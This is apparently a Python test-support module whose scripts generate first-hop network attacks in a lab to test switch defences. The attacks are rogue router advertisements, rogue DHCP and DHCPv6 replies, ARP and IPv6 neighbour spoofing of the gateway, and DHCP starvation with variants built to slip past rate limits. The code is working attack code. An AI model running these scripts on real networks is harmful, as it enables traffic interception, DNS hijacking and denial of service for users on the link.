"""Attack traffic the first-hop security tests send from a client namespace (python3 of the lab image, raw sockets):
a rogue router advertisement, DHCP server packets from an odd source port, ARP claiming the gateway, and a DHCP
starvation run with random MAC addresses (from random sources, from the port's own MAC, or through a relay's
address). Each function returns a script for ``python3 -c``."""

ROUTER_ADVERTISEMENT = r'''
import socket, struct
s = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6)
s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_MULTICAST_HOPS, 255)
# Router lifetime 1800 s (a default route), and a prefix to autoconfigure: what mitm6 and friends send.
ra = struct.pack("!BBHBBHII", 134, 0, 0, 64, 0, 1800, 0, 0)
pio = struct.pack("!BBBBIII16s", 3, 4, 64, 0xc0, 86400, 14400, 0, socket.inet_pton(socket.AF_INET6, "%(prefix)s"))
for _ in range(3):
    s.sendto(ra + pio, ("ff02::1", 0, 0, socket.if_nametoindex("eth0")))
'''

DHCP_FROM_ODD_PORT = r'''
import socket, time
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
s.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b"eth0")
s.bind(("", 1067))
offer = b"\x02\x01\x06\x00" + b"\x00" * 232 + b"\x63\x82\x53\x63\x35\x01\x02\xff"
for _ in range(3):
    s.sendto(offer, ("255.255.255.255", 68))
    s.sendto(b"control", ("255.255.255.255", 9999))   # not a DHCP port: must arrive
    time.sleep(0.2)
'''

ARP_CLAIM = r'''
import socket, struct
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
s.bind(("eth0", 0))
mac = bytes.fromhex(open("/sys/class/net/eth0/address").read().strip().replace(":", ""))
gateway = socket.inet_aton("%(gateway)s")
# Gratuitous ARP reply: "the gateway is at my MAC", to everybody.
frame = b"\xff" * 6 + mac + b"\x08\x06" + struct.pack("!HHBBH", 1, 0x0800, 6, 4, 2) + mac + gateway + b"\xff" * 6 + gateway
for _ in range(5):
    s.send(frame)
'''

# DISCOVER, then REQUEST for every OFFER, for %(count)d made-up clients, one every %(interval)s s (what dhcpstarv
# does; at most the port's DHCP rate limit, so that the rate limit alone does not stop it). What varies per client,
# %(vary)s: "source" (a random MAC as the frame's source and as chaddr), "chaddr" (a random chaddr, every frame from the
# port's own MAC), "hlen" (the port's own MAC and 10 random bytes as a 16-byte chaddr, hlen 16, which a 6-byte
# match on chaddr would take for one client) or "client_id" (a random client identifier, option 61, with the port's
# own MAC as source and chaddr); giaddr %(giaddr)s (0.0.0.0: not relayed; a relay's address: Kea leases from that address's segment and
# answers the relay, not the client). Prints the OFFERs that came back and how many addresses they offered.
DHCP_STARVATION = r'''
import random, select, socket, struct, time
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0800))
s.bind(("eth0", 0))
own = bytes.fromhex(open("/sys/class/net/eth0/address").read().strip().replace(":", ""))
giaddr = socket.inet_aton("%(giaddr)s")

def checksum(header):
    total = sum(struct.unpack("!10H", header))
    total = (total >> 16) + (total & 0xffff)
    return ~(total + (total >> 16)) & 0xffff

def frame(client, xid, kind, options=b""):
    chaddr = {"client_id": own, "hlen": own + client + client[:4]}.get("%(vary)s", client)
    if "%(vary)s" == "client_id":
        options += b"\x3d\x07\x01" + client
    dhcp = struct.pack("!BBBBIHH12s4s16s", 1, 1, len(chaddr), 0, xid, 0, 0x8000, b"", giaddr, chaddr) + b"\0" * 192
    dhcp += b"\x63\x82\x53\x63" + bytes([53, 1, kind]) + options + b"\xff"
    udp = struct.pack("!HHHH", 68, 67, 8 + len(dhcp), 0) + dhcp
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0, 64, 17, 0, b"\0" * 4, b"\xff" * 4)
    ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
    return b"\xff" * 6 + (client if "%(vary)s" == "source" else own) + b"\x08\x00" + ip + udp

pending, offers, offered = {}, 0, set()
def receive(until):
    global offers
    while True:
        left = until - time.time()
        if left <= 0 or not select.select([s], [], [], left)[0]:
            return
        data = s.recv(2048)
        ihl = (data[14] & 15) * 4
        udp = 14 + ihl
        if data[23] != 17 or struct.unpack("!H", data[udp + 2:udp + 4])[0] != 68:
            continue
        dhcp = data[udp + 8:]
        xid, yiaddr = struct.unpack("!I", dhcp[4:8])[0], dhcp[16:20]
        options, server, kind = dhcp[240:], None, None
        while options and options[0] != 255:
            code, length = options[0], options[1]
            if code == 53: kind = options[2]
            if code == 54: server = options[2:2 + length]
            options = options[2 + length:]
        if kind == 2 and xid in pending:
            offers += 1
            offered.add(yiaddr)
            s.send(frame(pending.pop(xid), xid, 3, b"\x32\x04" + yiaddr + b"\x36\x04" + server))

for _ in range(%(count)d):
    mac, xid = bytes([2] + [random.randrange(256) for _ in range(5)]), random.getrandbits(32)
    pending[xid] = mac
    s.send(frame(mac, xid, 1))
    receive(time.time() + %(interval)s)
receive(time.time() + 3)
print(offers, len(offered))
'''

# A broadcast ARP request tagged with VLAN %(vlan)d, sent out of interface %(interface)s as it is (a trunk port): asks
# for %(target)s on behalf of %(sender)s. Whether it comes out elsewhere says whether the trunk let the VLAN in.
TAGGED_ARP = r'''
import socket, struct
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
s.bind(("%(interface)s", 0))
mac = bytes.fromhex("02%(vlan)04x" + "00" * 3)
arp = struct.pack("!HHBBH", 1, 0x0800, 6, 4, 1) + mac + socket.inet_aton("%(sender)s") + b"\0" * 6 \
    + socket.inet_aton("%(target)s")
frame = b"\xff" * 6 + mac + struct.pack("!HH", 0x8100, %(vlan)d) + b"\x08\x06" + arp
for _ in range(5):
    s.send(frame)
'''

# Unsolicited neighbour advertisements "%(target)s is at my MAC" (override flag set), to every node: one from the
# client's own link-local address, one with the target itself as source (what parasite6 and fake_advertise6 send).
NEIGHBOUR_CLAIM = r'''
import socket, struct
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
s.bind(("eth0", 0))
mac = bytes.fromhex(open("/sys/class/net/eth0/address").read().strip().replace(":", ""))
target = socket.inet_pton(socket.AF_INET6, "%(target)s")
own = [line.split()[0] for line in open("/proc/net/if_inet6") if line.split()[5] == "eth0" and line.startswith("fe80")]
all_nodes = socket.inet_pton(socket.AF_INET6, "ff02::1")

def checksum(data):
    data += b"\0" * (len(data) %% 2)
    total = sum(struct.unpack("!%%dH" %% (len(data) // 2), data))
    while total >> 16:
        total = (total >> 16) + (total & 0xffff)
    return ~total & 0xffff

for source in [bytes.fromhex(own[0]), target]:
    icmp = struct.pack("!BBHI16s", 136, 0, 0, 0x20000000, target) + b"\x02\x01" + mac
    pseudo = source + all_nodes + struct.pack("!I3xB", len(icmp), 58)
    icmp = icmp[:2] + struct.pack("!H", checksum(pseudo + icmp)) + icmp[4:]
    ip6 = struct.pack("!IHBB16s16s", 0x60000000, len(icmp), 58, 255, source, all_nodes)
    for _ in range(3):
        s.send(b"\x33\x33\x00\x00\x00\x01" + mac + b"\x86\xdd" + ip6 + icmp)
'''

# A DHCPv6 server's Reply (message type 7) naming a rogue DNS server, to every DHCPv6 client on the link, and a datagram
# between ports DHCPv6 does not use as the control that the path carries the rest.
DHCPV6_REPLY = r'''
import socket, struct, time
index = socket.if_nametoindex("eth0")
sockets = []
for port in (547, 5547):
    s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b"eth0")
    s.bind(("::", port))
    sockets.append(s)
dns = socket.inet_pton(socket.AF_INET6, "2001:db8:bad::53")
reply = b"\x07\x00\x00\x01" + struct.pack("!HH", 23, 16) + dns
for _ in range(3):
    sockets[0].sendto(reply, ("ff02::1", 546, 0, index))
    sockets[1].sendto(b"control", ("ff02::1", 9999, 0, index))
    time.sleep(0.2)
'''
